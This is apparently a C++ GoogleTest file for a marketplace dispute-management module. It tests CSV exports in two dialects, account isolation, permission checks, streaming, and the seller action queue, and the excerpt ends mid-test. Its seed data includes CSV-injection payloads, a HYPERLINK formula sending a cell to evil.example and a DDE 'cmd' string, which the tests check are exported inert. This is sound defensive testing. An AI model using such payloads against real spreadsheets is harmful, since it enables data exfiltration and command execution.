// The CSV exports and the action queue through the module's own routes
// (libsac.so loaded as a host loads it), on both dialects: the export holds
// what the list shows under the same filters (count, order, amounts), in
// both CSV dialects, streamed page by page; another account's cases never
// appear; a role without sac.view gets a 403; the "Requer ação" view lists
// exactly the disputes that wait on the seller, nearest deadline first; the
// menu badge counts them.
#include <gtest/gtest.h>

#include <sac/module_api.h>
#include <sac/test/TempDir.h>
#include <sac/test/TestDatabase.h>

#include "FakeModuleHost.h"

#include <dlfcn.h>

#include <algorithm>
#include <cstddef>
#include <functional>
#include <map>
#include <regex>
#include <set>
#include <string>
#include <vector>

#include "domain/ActionQueue.h"
#include "domain/Case.h"
#include "domain/Money.h"
#include "domain/Store.h"
#include "storage/CaseRepository.h"
#include "storage/GroupRepository.h"
#include "storage/StoreRepository.h"

namespace {

using sac::domain::CaseStatus;
using sac::sql::Dialect;
using sac::test::Answer;
using sac::test::FakeHost;

struct Registered {
    struct Route {
        std::string prefix;
        sac_route_fn fn = nullptr;
        void* ctx = nullptr;
    };
    std::vector<Route> routes;
};
int addMenu(void*, const char*, const char*, const char*, const char*) { return SAC_OK; }
int addRoute(void* c, const char* prefix, const char*, uint32_t, sac_route_fn fn, void* ctx) {
    static_cast<Registered*>(c)->routes.push_back({prefix, fn, ctx});
    return SAC_OK;
}
int addJob(void*, const char*, uint32_t, void (*)(void*), void*) { return SAC_OK; }
int addMigrations(void*, const char*) { return SAC_OK; }
const char* noHeader(void*, const char*) { return nullptr; }

struct Who {
    std::int64_t userId;
    std::int64_t accountId;
    const char* role;
    const char* locale = "pt-BR";
};
constexpr std::int64_t kAccountA = 1;
constexpr std::int64_t kAccountB = 2;
constexpr Who kSellerA{12, kAccountA, "seller"};
constexpr Who kAdminA{11, kAccountA, "admin"};
constexpr Who kSellerB{22, kAccountB, "seller"};
constexpr Who kGuestA{13, kAccountA, "guest"};
constexpr std::int64_t kDay = 86'400'000;
constexpr const char* kMarkerB = "CASO-DA-CONTA-B";
const std::string kFormula = "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"Clique aqui\")";

/// RFC 4180 rows (quoted fields, doubled quotes, CRLF), read independently of the writer.
std::vector<std::vector<std::string>> readCsv(std::string_view text, char sep) {
    std::vector<std::vector<std::string>> rows;
    std::vector<std::string> row;
    std::string field;
    bool quoted = false, started = false;
    for (std::size_t i = 0; i < text.size(); ++i) {
        const char c = text[i];
        if (quoted) {
            if (c == '"' && i + 1 < text.size() && text[i + 1] == '"') {
                field += '"';
                ++i;
            } else if (c == '"') {
                quoted = false;
            } else {
                field += c;
            }
            continue;
        }
        if (c == '"' && !started) {
            quoted = started = true;
        } else if (c == sep) {
            row.push_back(field);
            field.clear();
            started = false;
        } else if (c == '\r' && i + 1 < text.size() && text[i + 1] == '\n') {
            row.push_back(field);
            rows.push_back(row);
            row.clear();
            field.clear();
            started = false;
            ++i;
        } else {
            field += c;
            started = true;
        }
    }
    EXPECT_FALSE(quoted) << "an unterminated quoted field";
    EXPECT_TRUE(row.empty() && field.empty()) << "the last row does not end with CRLF";
    return rows;
}

/// A parsed export: its header and data rows, by column name.
struct Csv {
    std::vector<std::string> header;
    std::vector<std::vector<std::string>> rows;

    std::size_t column(const std::string& name) const {
        for (std::size_t i = 0; i < header.size(); ++i)
            if (header[i] == name) return i;
        ADD_FAILURE() << "no column " << name;
        return 0;
    }
    std::vector<std::string> values(const std::string& name) const {
        const std::size_t k = column(name);
        std::vector<std::string> out;
        for (const auto& r : rows) out.push_back(k < r.size() ? r[k] : std::string("<missing>"));
        return out;
    }
};

Csv parseExport(const Answer& a, bool excel) {
    std::string body = a.body;
    if (excel) {
        EXPECT_EQ(body.substr(0, 3), "\xEF\xBB\xBF") << "the Excel file starts with the UTF-8 byte order mark";
        body.erase(0, 3);
    } else {
        EXPECT_NE(body.substr(0, 3), "\xEF\xBB\xBF");
    }
    auto rows = readCsv(body, excel ? ';' : ',');
    Csv out;
    if (rows.empty()) {
        ADD_FAILURE() << "no header row";
        return out;
    }
    out.header = rows.front();
    out.rows.assign(rows.begin() + 1, rows.end());
    for (const auto& r : out.rows) EXPECT_EQ(r.size(), out.header.size());
    return out;
}

/// "1234.56" or "1234,56" in minor units of a 2-digit currency.
std::int64_t minorOf(std::string text) {
    std::replace(text.begin(), text.end(), ',', '.');
    const auto dot = text.find('.');
    EXPECT_NE(dot, std::string::npos) << text;
    EXPECT_EQ(text.size() - dot, 3u) << text;
    const bool negative = text[0] == '-';
    const std::int64_t whole = std::stoll(text.substr(negative ? 1 : 0, dot - (negative ? 1 : 0)));
    const std::int64_t cents = std::stoll(text.substr(dot + 1));
    return (negative ? -1 : 1) * (whole * 100 + cents);
}

class ExportAndQueue : public testing::TestWithParam<Dialect> {
protected:
    void SetUp() override {
        handle = dlopen(SAC_MODULE_LIBRARY, RTLD_NOW | RTLD_LOCAL);
        ASSERT_NE(handle, nullptr) << dlerror();
        auto fn = reinterpret_cast<sac_module_entry_fn>(dlsym(handle, SAC_MODULE_ENTRY_SYMBOL));
        ASSERT_NE(fn, nullptr);
        entry = fn();
        db = std::make_unique<sac::test::TestDatabase>(GetParam());
        db->migrate("schema", "sac");
        host.url = db->url();
        host.dir = SAC_MODULE_DIR;
        host.settings["key_file"] = files.file("sac.key");
        host.settings["key_env"] = "SAC_EXPORT_TEST_NO_KEY";
        host.settings["aliexpress_gateway"] = "http://127.0.0.1:9";
        host.settings["allow_loopback_endpoints"] = "true";
        services = sac::test::servicesFor(host);
        registrar = {SAC_MODULE_ABI_VERSION, sizeof(sac_registrar), &reg, &addMenu, &addRoute, &addJob, &addMigrations};
        char err[256] = "";
        ASSERT_EQ(entry->init(&services, &registrar, err, sizeof err), SAC_OK) << err;
        ASSERT_EQ(entry->start(err, sizeof err), SAC_OK) << err;
        conn = db->db().acquire();
        seed();
    }

    void TearDown() override {
        conn.reset();
        if (entry) entry->shutdown();
    }

    std::int64_t store(std::int64_t account, const std::string& name, sac::domain::Marketplace m) {
        sac::domain::Store s;
        s.accountId = account;
        s.name = name;
        s.marketplace = m;
        if (m == sac::domain::Marketplace::Amazon) {
            s.region = "na";
            s.marketplaceId = "A2Q3Y263D00KWC";
        } else {
            s.gatewayUrl = "http://127.0.0.1:9";
        }
        s.createdAt = s.updatedAt = host.now;
        return sac::storage::StoreRepository(*conn).create(s);
    }

    /// Account A: 1,234 disputes over two AliExpress stores (every status,
    /// deadlines past, near and far or none, amounts in BRL and USD or none,
    /// causes, a group) and 150 Lost & Found cases; account B: 40 disputes.
    void seed() {
        northA = store(kAccountA, "Loja Norte; \"Centro\"", sac::domain::Marketplace::AliExpress);
        southA = store(kAccountA, "Loja Sul", sac::domain::Marketplace::AliExpress);
        amazonA = store(kAccountA, "Amazon Brasil", sac::domain::Marketplace::Amazon);
        storeB = store(kAccountB, "Loja B", sac::domain::Marketplace::AliExpress);
        groupA = sac::storage::GroupRepository(*conn).create(kAccountA, "Lote, 1", host.now).value().id;
        sac::storage::CaseRepository repo(*conn);
        const CaseStatus statuses[] = {CaseStatus::Pendente, CaseStatus::Recebido, CaseStatus::Decisao,
                                       CaseStatus::Fechado, CaseStatus::Cancelado, CaseStatus::Pendente};
        const char* causes[] = {"Item not received", "Item not as described", "Quality problem",
                                "Motivo \"novo\", com vírgula"};
        const auto disputes = [&](std::int64_t account, std::int64_t storeId, int from, int n, const std::string& tag) {
            std::vector<sac::domain::Case> cases;
            for (int i = from; i < from + n; ++i) {
                sac::domain::Case c;
                c.accountId = account;
                c.storeId = storeId;
                c.externalId = std::to_string(6'300'000'000'000'000LL + i);
                c.orderId = std::to_string(8'100'000'000'000'000LL + i);
                c.subOrderId = std::to_string(8'100'000'000'000'000LL + i + 1);
                c.status = statuses[i % 6];
                c.marketplaceStatus = "processing";
                c.marketplaceFineStatus = c.status == CaseStatus::Recebido ? "wait_for_seller_confirmation"
                                                                           : "wait_for_seller_response";
                c.cause = causes[i % 4];
                c.productName = tag + " produto " + std::to_string(i % 97) + (i % 13 == 0 ? ", com vírgula" : "");
                if (i == from + 5) c.productName = kFormula;
                c.productId = std::to_string(1'005'000'000'000LL + i % 50);
                // Ties on the deadline, deadlines past and ahead, none.
                if (i % 11 != 0) c.deadlineAt = host.now + ((i * 7919) % 500 - 100) * 3'600'000LL;
                if (i % 9 != 0) c.amount = sac::domain::Money(100 + (i * 7331) % 250'000, i % 10 == 0 ? "USD" : "BRL");
                if (i % 17 == 0 && account == kAccountA) c.groupId = groupA;
                c.marketplaceCreatedAt = host.now - 90 * kDay + i * 3'600'000LL + (i % 3) * 1000;
                c.payloadJson = "{}";
                cases.push_back(std::move(c));
            }
            std::vector<const sac::domain::Case*> pointers;
            for (const auto& c : cases) pointers.push_back(&c);
            repo.insertNew(storeId, account, pointers, host.now);
            // Groups are the seller's own: set after the import.
            for (const auto& c : cases)
                if (c.groupId)
                    repo.setGroup(repo.findByExternalId(storeId, c.externalId, account)->id, account, c.groupId, host.now);
        };
        disputes(kAccountA, northA, 1, 800, "NORTE");
        disputes(kAccountA, southA, 801, 434, "SUL");
        disputes(kAccountB, storeB, 5001, 40, kMarkerB);

        std::vector<sac::domain::Case> claims;
        const CaseStatus lf[] = {CaseStatus::Elegivel, CaseStatus::Aberto, CaseStatus::Reembolsado, CaseStatus::Negado};
        for (int i = 0; i < 150; ++i) {
            sac::domain::Case c;
            c.accountId = kAccountA;
            c.storeId = amazonA;
            c.marketplace = sac::domain::Marketplace::Amazon;
            c.kind = i % 3 == 0   ? sac::domain::CaseKind::InboundShortage
                     : i % 2 == 1 ? sac::domain::CaseKind::LostInventory
                                  : sac::domain::CaseKind::DamagedInventory;
            c.externalId = "lost:X00" + std::to_string(i);
            c.status = lf[i % 4];
            c.productId = "X00FNSKU" + std::to_string(i);
            c.productName = i == 3 ? "@SUM(1+1)*cmd|' /C calc'!A0" : "Produto perdido " + std::to_string(i);
            c.units = 1 + i % 5;
            if (i % 7 != 0) c.estimate = sac::domain::Money(1000 + i * 37, "USD");
            if (c.status == CaseStatus::Reembolsado) c.reimbursed = sac::domain::Money(900 + i * 11, "USD");
            c.deadlineAt = host.now + (i % 60 - 10) * kDay;
            c.marketplaceCreatedAt = host.now - 200 * kDay + i * kDay;
            c.payloadJson = "{}";
            claims.push_back(std::move(c));
        }
        std::vector<const sac::domain::Case*> pointers;
        for (const auto& c : claims) pointers.push_back(&c);
        repo.insertNew(amazonA, kAccountA, pointers, host.now);
    }

    Answer call(const Who& who, const std::string& path, const std::string& query = "", bool streaming = true,
                std::size_t clientTakes = SIZE_MAX, int* rc = nullptr) {
        sac_user user{who.userId, who.accountId, "user", "user@example.com", "User", who.role, who.locale};
        sac_request req{SAC_MODULE_ABI_VERSION, sizeof(sac_request), nullptr, "GET", path.c_str(), query.c_str(), "",
                        "", 0, &user, "csrf", &noHeader};
        Answer ans;
        ans.clientTakes = clientTakes;
        ans.beforeChunk = beforeChunk;
        sac_response res = sac::test::responseFor(ans, streaming);
        const Registered::Route* route = nullptr;
        for (const auto& r : reg.routes)
            if (path == r.prefix || path.rfind(r.prefix + "/", 0) == 0) route = &r;
        EXPECT_NE(route, nullptr) << path;
        if (!route) return ans;
        const int status = route->fn(route->ctx, &req, &res);
        if (rc) *rc = status;
        else EXPECT_EQ(status, SAC_OK) << path << "?" << query;
        return ans;
    }

    /// Every page of the tab under query (200 rows a page): the case ids
    /// in order, the amount each row shows, and the total the pager names.
    struct Listed {
        std::vector<std::int64_t> ids;
        std::vector<std::string> amounts;
        std::int64_t total = -1;
        std::string firstPage;
    };
    Listed tab(const Who& who, const std::string& query) {
        Listed out;
        std::string q = query + (query.empty() ? "" : "&") + "limit=200";
        static const std::regex row(R"re(<tr class="sac-case[^"]*" data-case-id="(\d+)">)re");
        static const std::regex amount(R"re(<td class="sac-num">([^<]*)</td>)re");
        static const std::regex next(R"re(href="/sac/\?([^"]*)"[^>]*rel="next")re");
        static const std::regex range(R"re(id="sac-range">[^<]* de (?:mais de )?([0-9.]+)<)re");
        for (int pages = 0; pages < 100; ++pages) {
            const Answer a = call(who, "/sac/", q);
            EXPECT_EQ(a.status, 200) << q << a.body.substr(0, 500);
            if (pages == 0) {
                out.firstPage = a.body;
                std::smatch m;
                if (std::regex_search(a.body, m, range)) {
                    std::string digits = m[1];
                    digits.erase(std::remove(digits.begin(), digits.end(), '.'), digits.end());
                    out.total = std::stoll(digits);
                } else {
                    out.total = 0;
                }
            }
            for (auto it = std::sregex_iterator(a.body.begin(), a.body.end(), row); it != std::sregex_iterator(); ++it)
                out.ids.push_back(std::stoll((*it)[1]));
            for (auto it = std::sregex_iterator(a.body.begin(), a.body.end(), amount); it != std::sregex_iterator();
                 ++it)
                out.amounts.push_back((*it)[1]);
            std::smatch m;
            if (!std::regex_search(a.body, m, next)) return out;
            q = m[1];
            for (std::string::size_type p; (p = q.find("&amp;")) != std::string::npos;) q.replace(p, 5, "&");
        }
        ADD_FAILURE() << "more than 100 pages";
        return out;
    }

    sac::domain::Case byId(std::int64_t id, std::int64_t account = kAccountA) {
        auto c = sac::storage::CaseRepository(*conn).find(id, account);
        EXPECT_TRUE(c) << id;
        return c ? *c : sac::domain::Case{};
    }

    /// Every case of account A, straight from the database.
    std::vector<sac::domain::Case> allOfA() {
        std::vector<sac::domain::Case> out;
        for (const auto& r : conn->query("SELECT id FROM cases WHERE account_id = ? ORDER BY id", {kAccountA}))
            out.push_back(byId(r.getInt(0)));
        return out;
    }

    /// The badge the host would show beside "SAC e pós-venda" for who.
    std::optional<std::pair<std::int64_t, std::string>> badge(const Who& who, const char* href = "/sac/") {
        EXPECT_GE(entry->struct_size, offsetof(sac_module_info, menu_badge) + sizeof(entry->menu_badge));
        EXPECT_NE(entry->menu_badge, nullptr);
        sac_user user{who.userId, who.accountId, "user", "user@example.com", "User", who.role, who.locale};
        std::int64_t count = -1;
        char text[256] = "unchanged";
        if (entry->menu_badge(&user, href, &count, text, sizeof text) != SAC_OK) return std::nullopt;
        return std::make_pair(count, std::string(text));
    }

    void* handle = nullptr;
    const sac_module_info* entry = nullptr;
    sac::test::TempDir files{"sac-export-test-"};
    std::unique_ptr<sac::test::TestDatabase> db;
    std::shared_ptr<sac::sql::Connection> conn;
    FakeHost host;
    sac_host_services services{};
    Registered reg;
    sac_registrar registrar{};
    std::int64_t northA = 0, southA = 0, amazonA = 0, storeB = 0, groupA = 0;
    std::function<void()> beforeChunk; ///< given to each call's answer (Answer::beforeChunk)
};

std::string id(std::int64_t v) { return std::to_string(v); }

} // namespace

TEST_P(ExportAndQueue, TheExportHoldsTheListsCasesInItsOrderWithItsAmounts) {
    const std::vector<std::string> filters = {
        "",
        "view=acao",
        "status=pendente",
        "store=" + id(southA),
        "sort=asc",
        "sort=desc&status=fechado",
        "deadline=7d",
        "group=" + id(groupA),
        "group=none&store=" + id(northA),
        "cause=" + std::string("Motivo%20%22novo%22%2C%20com%20v%C3%ADrgula"),
        "order=8100000000000042",
        "view=acao&store=" + id(northA),
        "status=decisao&view=acao", // the queue holds no Decisão: nothing
    };
    for (const auto& filter : filters) {
        const Listed list = tab(kSellerA, filter);
        for (bool excel : {false, true}) {
            const std::string q = filter + (excel ? std::string(filter.empty() ? "" : "&") + "format=excel" : "");
            const Answer a = call(kSellerA, "/sac/export", q);
            ASSERT_EQ(a.status, 200) << q << "\n" << a.body.substr(0, 300);
            EXPECT_TRUE(a.streamed) << "the file is streamed, not held";
            EXPECT_EQ(a.header("Content-Type"), "text/csv; charset=utf-8; header=present");
            const Csv csv = parseExport(a, excel);
            ASSERT_EQ(static_cast<std::int64_t>(csv.rows.size()), static_cast<std::int64_t>(list.ids.size())) << q;
            EXPECT_EQ(static_cast<std::int64_t>(csv.rows.size()), list.total) << q << ": the count the pager names";
            // The same cases in the same order, with the amounts the list shows.
            const auto disputes = csv.values("Disputa");
            const auto amounts = csv.values("Valor");
            const auto currencies = csv.values("Moeda");
            for (std::size_t i = 0; i < list.ids.size(); ++i) {
                const auto c = byId(list.ids[i]);
                ASSERT_EQ(disputes[i], c.externalId) << q << " row " << i;
                if (!c.amount) {
                    EXPECT_EQ(amounts[i], "") << q;
                    EXPECT_EQ(list.amounts[i], "") << q;
                    continue;
                }
                EXPECT_EQ(minorOf(amounts[i]), c.amount->minor()) << q << " row " << i;
                EXPECT_EQ(currencies[i], c.amount->currency());
                EXPECT_NE(amounts[i].find(excel ? ',' : '.'), std::string::npos) << "the dialect's decimal mark";
                // What the list shows for this row is this amount.
                EXPECT_EQ(list.amounts[i],
                          sac::domain::Money(minorOf(amounts[i]), currencies[i]).format("pt-BR")) << q << " row " << i;
            }
        }
    }
}

TEST_P(ExportAndQueue, BothDialectsCarryTheSameRowsAndTotals) {
    const Csv comma = parseExport(call(kSellerA, "/sac/export", "format=csv"), false);
    const Csv excel = parseExport(call(kSellerA, "/sac/export", "format=excel"), true);
    ASSERT_EQ(comma.rows.size(), 1234u);
    ASSERT_EQ(excel.rows.size(), comma.rows.size());
    EXPECT_EQ(comma.header, excel.header);
    std::map<std::string, std::int64_t> commaTotal, excelTotal, dbTotal;
    const auto ca = comma.values("Valor"), cc = comma.values("Moeda"), ea = excel.values("Valor"),
               ec = excel.values("Moeda");
    for (std::size_t i = 0; i < ca.size(); ++i) {
        if (!ca[i].empty()) commaTotal[cc[i]] += minorOf(ca[i]);
        if (!ea[i].empty()) excelTotal[ec[i]] += minorOf(ea[i]);
    }
    for (const auto& c : allOfA())
        if (c.kind == sac::domain::CaseKind::Dispute && c.amount) dbTotal[c.amount->currency()] += c.amount->minor();
    EXPECT_EQ(commaTotal, dbTotal);
    EXPECT_EQ(excelTotal, dbTotal);
    // Times twice: the display zone and UTC, three hours apart.
    const auto local = comma.values("Prazo (UTC-03:00)"), utc = comma.values("Prazo (UTC)");
    std::size_t withDeadline = 0;
    for (std::size_t i = 0; i < local.size(); ++i) {
        if (local[i].empty()) {
            EXPECT_TRUE(utc[i].empty());
            continue;
        }
        ++withDeadline;
        EXPECT_EQ(local[i].size(), 19u) << local[i];
        EXPECT_NE(local[i], utc[i]);
    }
    EXPECT_GT(withDeadline, 1000u);
    // The file is named for the list and the day (in the display zone).
    EXPECT_EQ(call(kSellerA, "/sac/export").header("Content-Disposition"),
              "attachment; filename=\"sac-disputas-2024-05-29.csv\"");
    EXPECT_EQ(call(kSellerA, "/sac/export", "format=excel&view=acao").header("Content-Disposition"),
              "attachment; filename=\"sac-disputas-requer-acao-2024-05-29-excel.csv\"");
    // In English, the header too.
    const Csv english = parseExport(call({12, kAccountA, "seller", "en"}, "/sac/export"), false);
    EXPECT_EQ(english.header.front(), "Store");
    EXPECT_EQ(english.rows.size(), 1234u);
}

TEST_P(ExportAndQueue, AFormulaInAProductNameIsExportedInert) {
    for (bool excel : {false, true}) {
        const Csv csv = parseExport(call(kSellerA, "/sac/export", excel ? "format=excel" : ""), excel);
        const auto products = csv.values("Produto");
        EXPECT_EQ(std::count(products.begin(), products.end(), "'" + kFormula), 2) << "neutralised, kept whole (one a store)";
        for (const auto& row : csv.rows)
            for (const auto& cell : row)
                if (!cell.empty()) {
                    EXPECT_TRUE(cell[0] != '=' && cell[0] != '+' && cell[0] != '@') << cell;
                    // Numbers of our own may be negative; text never starts with '-'.
                    if (cell[0] == '-') {
                        EXPECT_NO_THROW((void)std::stod(cell)) << cell;
                    }
                }
    }
    const Csv lf = parseExport(call(kSellerA, "/sac/lost-found/export", "status=all"), false);
    const auto products = lf.values("Produto");
    EXPECT_EQ(std::count(products.begin(), products.end(), "'@SUM(1+1)*cmd|' /C calc'!A0"), 1);
}

TEST_P(ExportAndQueue, TheLostAndFoundExportHoldsTheListsCasesAndEstimates) {
    static const std::regex row(R"re(<tr data-case-id="(\d+)")re");
    static const std::regex next(R"re(href="/sac/lost-found\?([^"]*)"[^>]*rel="next")re");
    for (const std::string& filter : std::vector<std::string>{"", "status=all", "status=reembolsado",
                                                              "kind=lost_inventory",
                                                              "store=" + id(amazonA) + "&status=aberto",
                                                              "status=pendente"}) {
        std::vector<std::int64_t> ids;
        std::string q = filter;
        for (int pages = 0; pages < 20; ++pages) {
            const Answer page = call(kSellerA, "/sac/lost-found", q);
            ASSERT_EQ(page.status, 200);
            for (auto it = std::sregex_iterator(page.body.begin(), page.body.end(), row); it != std::sregex_iterator();
                 ++it)
                ids.push_back(std::stoll((*it)[1]));
            std::smatch m;
            if (!std::regex_search(page.body, m, next)) break;
            q = m[1];
            for (std::string::size_type p; (p = q.find("&amp;")) != std::string::npos;) q.replace(p, 5, "&");
        }
        for (bool excel : {false, true}) {
            const std::string eq = filter + (excel ? std::string(filter.empty() ? "" : "&") + "format=excel" : "");
            const Answer a = call(kSellerA, "/sac/lost-found/export", eq);
            ASSERT_EQ(a.status, 200);
            const Csv csv = parseExport(a, excel);
            ASSERT_EQ(csv.rows.size(), ids.size()) << eq;
            const auto fnskus = csv.values("FNSKU"), estimates = csv.values("Estimativa"),
                       reimbursed = csv.values("Reembolsado");
            for (std::size_t i = 0; i < ids.size(); ++i) {
                const auto c = byId(ids[i]);
                EXPECT_EQ(fnskus[i], c.productId) << eq;
                EXPECT_EQ(estimates[i].empty(), !c.estimate) << eq;
                if (c.estimate) {
                    EXPECT_EQ(minorOf(estimates[i]), c.estimate->minor()) << eq;
                }
                EXPECT_EQ(reimbursed[i].empty(), !c.reimbursed) << eq;
                if (c.reimbursed) {
                    EXPECT_EQ(minorOf(reimbursed[i]), c.reimbursed->minor()) << eq;
                }
            }
        }
    }
    EXPECT_EQ(call(kSellerA, "/sac/lost-found/export").header("Content-Disposition"),
              "attachment; filename=\"sac-lost-found-2024-05-29.csv\"");
}

TEST_P(ExportAndQueue, AnotherAccountsCasesNeverAppearAndWithoutThePermissionIts403) {
    for (const std::string& q :
         std::vector<std::string>{"", "store=" + id(northA), "group=" + id(groupA), "view=acao",
                                  "order=8100000000000042", "format=excel&store=" + id(southA),
                                  "cursor=1_1&store=" + id(northA)}) {
        const Answer b = call(kSellerB, "/sac/export", q);
        ASSERT_EQ(b.status, 200) << q;
        for (const char* marker : {"NORTE", "SUL", "Loja Norte", "Lote, 1", "6300000000000001"})
            EXPECT_EQ(b.body.find(marker), std::string::npos) << q << " leaks " << marker;
        const Csv csv = parseExport(b, q.find("excel") != std::string::npos);
        for (const auto& store : csv.values("Loja")) EXPECT_EQ(store, "Loja B") << q;
        const auto bLf = call(kSellerB, "/sac/lost-found/export", q);
        EXPECT_EQ(bLf.body.find("Produto perdido"), std::string::npos) << q;
        EXPECT_EQ(bLf.body.find("Amazon Brasil"), std::string::npos) << q;
    }
    EXPECT_EQ(parseExport(call(kSellerB, "/sac/export"), false).rows.size(), 40u);
    // A's export holds none of B's.
    EXPECT_EQ(call(kSellerA, "/sac/export", "").body.find(kMarkerB), std::string::npos);

    // A role without sac.view: 403, and no file.
    for (const char* path : {"/sac/export", "/sac/lost-found/export"}) {
        const Answer guest = call(kGuestA, path);
        EXPECT_EQ(guest.status, 403) << path;
        EXPECT_FALSE(guest.streamed);
        EXPECT_EQ(guest.body.find("6300000000000001"), std::string::npos);
        EXPECT_EQ(guest.header("Content-Disposition"), "");
    }
    // Malformed filters are refused, not widened.
    EXPECT_EQ(call(kSellerA, "/sac/export", "format=xlsx").status, 400);
    EXPECT_EQ(call(kSellerA, "/sac/export", "view=tudo").status, 400);
    EXPECT_EQ(call(kSellerA, "/sac/export", "store=abc").status, 400);
    EXPECT_EQ(call(kSellerA, "/sac/export", "cause=" + std::string(501, 'x')).status, 400);
}

TEST_P(ExportAndQueue, TheExportStopsWhenTheClientGoesAwayAndAnOlderHostGetsABoundedFile) {
    // The client reads 20 KB and goes away: the route stops and asks the host
    // to cut the connection (SAC_ERROR), having written little more.
    int rc = SAC_OK;
    const Answer cut = call(kSellerA, "/sac/export", "", true, 20'000, &rc);
    EXPECT_EQ(rc, SAC_ERROR);
    EXPECT_TRUE(cut.streamed);
    EXPECT_LE(cut.body.size(), 20'000u);
    EXPECT_FALSE(host.logs.empty());
    EXPECT_NE(host.logs.back().find("stopped after"), std::string::npos) << host.logs.back();

    // A host from before streaming: the same file, held whole (it is small).
    const Answer older = call(kSellerA, "/sac/export", "", false);
    EXPECT_EQ(older.status, 200);
    EXPECT_FALSE(older.streamed);
    EXPECT_EQ(parseExport(older, false).rows.size(), 1234u);
    EXPECT_EQ(older.body, call(kSellerA, "/sac/export").body);

    // Past 20,000 rows such a host gets a page asking for narrower filters
    // (never a file cut short), while a streaming host gets every row.
    std::vector<sac::domain::Case> more(19'000);
    for (std::size_t i = 0; i < more.size(); ++i) {
        auto& c = more[i];
        c.accountId = kAccountA;
        c.storeId = southA;
        c.externalId = std::to_string(6'400'000'000'000'000LL + static_cast<std::int64_t>(i));
        c.orderId = std::to_string(8'200'000'000'000'000LL + static_cast<std::int64_t>(i));
        c.status = CaseStatus::Fechado;
        c.productName = "lote";
        c.amount = sac::domain::Money(1000, "BRL");
        c.marketplaceCreatedAt = host.now - 200 * kDay + static_cast<std::int64_t>(i) * 1000;
        c.payloadJson = "{}";
    }
    std::vector<const sac::domain::Case*> pointers;
    for (const auto& c : more) pointers.push_back(&c);
    sac::storage::CaseRepository(*conn).insertNew(southA, kAccountA, pointers, host.now);
    const Answer tooLarge = call(kSellerA, "/sac/export", "", false);
    EXPECT_EQ(tooLarge.status, 413);
    EXPECT_EQ(tooLarge.header("Content-Disposition"), "") << "an error page, not a download";
    EXPECT_NE(tooLarge.header("Content-Type").find("text/html"), std::string::npos);
    EXPECT_LT(tooLarge.body.size(), 20'000u);
    const Answer whole = call(kSellerA, "/sac/export");
    EXPECT_TRUE(whole.streamed);
    EXPECT_EQ(parseExport(whole, false).rows.size(), 20'234u);
    // A narrower list still fits.
    EXPECT_EQ(parseExport(call(kSellerA, "/sac/export", "store=" + id(northA), false), false).rows.size(), 800u);
}

TEST_P(ExportAndQueue, ADatabaseFailureWhileTheNextPageIsReadCutsTheDownloadInsteadOfEndingIt) {
    // Enough disputes for several pages of the export (2,000 rows each).
    std::vector<sac::domain::Case> more(5000);
    for (std::size_t i = 0; i < more.size(); ++i) {
        auto& c = more[i];
        c.accountId = kAccountA;
        c.storeId = northA;
        c.kind = sac::domain::CaseKind::Dispute;
        c.marketplace = sac::domain::Marketplace::AliExpress;
        c.externalId = "PAGES-" + std::to_string(i);
        c.orderId = "9" + std::to_string(100000 + i);
        c.status = CaseStatus::Fechado;
        c.productName = "lote";
        c.marketplaceCreatedAt = host.now - 100 * kDay + static_cast<std::int64_t>(i) * 1000;
        c.payloadJson = "{}";
    }
    std::vector<const sac::domain::Case*> pointers;
    for (const auto& c : more) pointers.push_back(&c);
    sac::storage::CaseRepository(*conn).insertNew(northA, kAccountA, pointers, host.now);
    const std::size_t all = parseExport(call(kSellerA, "/sac/export"), false).rows.size();
    ASSERT_GT(all, 6000u);

    // The cases go away once the first page is out: the page being read ahead
    // may still come, the one after cannot.
    bool gone = false;
    beforeChunk = [&] {
        if (gone) return;
        gone = true;
        conn->execute("ALTER TABLE cases RENAME TO cases_gone");
    };
    int rc = SAC_OK;
    const Answer cut = call(kSellerA, "/sac/export", "", true, SIZE_MAX, &rc);
    beforeChunk = nullptr;
    conn->execute("ALTER TABLE cases_gone RENAME TO cases");
    EXPECT_TRUE(gone);
    EXPECT_TRUE(cut.streamed);
    EXPECT_EQ(rc, SAC_ERROR) << "a failed stream is cut, never ended as if complete";
    const auto lines = std::count(cut.body.begin(), cut.body.end(), '\n');
    EXPECT_GE(lines, 2000) << "the first page went out";
    EXPECT_LT(static_cast<std::size_t>(lines), all) << "not every row";
    // Nothing was left behind: the next export is whole.
    EXPECT_EQ(parseExport(call(kSellerA, "/sac/export"), false).rows.size(), all);
}

TEST_P(ExportAndQueue, TheActionQueueListsWhatWaitsOnTheSellerNearestDeadlineFirst) {
    std::vector<sac::domain::Case> waiting;
    for (const auto& c : allOfA())
        if (sac::domain::inActionQueue(c)) waiting.push_back(c);
    ASSERT_GT(waiting.size(), 400u);
    // Nearest deadline first; cases without a deadline after them, by id.
    std::sort(waiting.begin(), waiting.end(), [](const auto& a, const auto& b) {
        if (a.deadlineAt.has_value() != b.deadlineAt.has_value()) return a.deadlineAt.has_value();
        if (a.deadlineAt && *a.deadlineAt != *b.deadlineAt) return *a.deadlineAt < *b.deadlineAt;
        return a.id < b.id;
    });
    std::vector<std::int64_t> expected;
    for (const auto& c : waiting) expected.push_back(c.id);

    const Listed queue = tab(kSellerA, "view=acao");
    EXPECT_EQ(queue.ids, expected);
    EXPECT_EQ(queue.total, static_cast<std::int64_t>(expected.size()));
    for (auto id : queue.ids) {
        const auto c = byId(id);
        EXPECT_TRUE(c.status == CaseStatus::Pendente || c.status == CaseStatus::Recebido) << id;
        EXPECT_EQ(c.kind, sac::domain::CaseKind::Dispute);
    }
    // A sort asked for does not reorder the queue.
    EXPECT_EQ(tab(kSellerA, "view=acao&sort=desc").ids, expected);
    // The time left as the list shows it, overdue ones too; the view is named.
    EXPECT_NE(queue.firstPage.find("vencido há"), std::string::npos);
    EXPECT_NE(queue.firstPage.find("id=\"sac-action-intro\""), std::string::npos);
    EXPECT_NE(queue.firstPage.find("id=\"sac-view-action\" aria-current=\"page\""), std::string::npos);
    const std::string count = std::to_string(expected.size());
    EXPECT_NE(queue.firstPage.find("id=\"sac-action-count\">" + count + "<"), std::string::npos);
    // The export link carries the view.
    EXPECT_NE(queue.firstPage.find("href=\"/sac/export?view=acao&amp;sort=deadline\""), std::string::npos);
    // The plain list names the queue's count too, and is not the queue.
    const Listed all = tab(kSellerA, "");
    EXPECT_EQ(all.total, 1234);
    EXPECT_NE(all.firstPage.find("id=\"sac-action-count\">" + count + "<"), std::string::npos);

    // Another account's queue is its own.
    std::int64_t waitingB = 0;
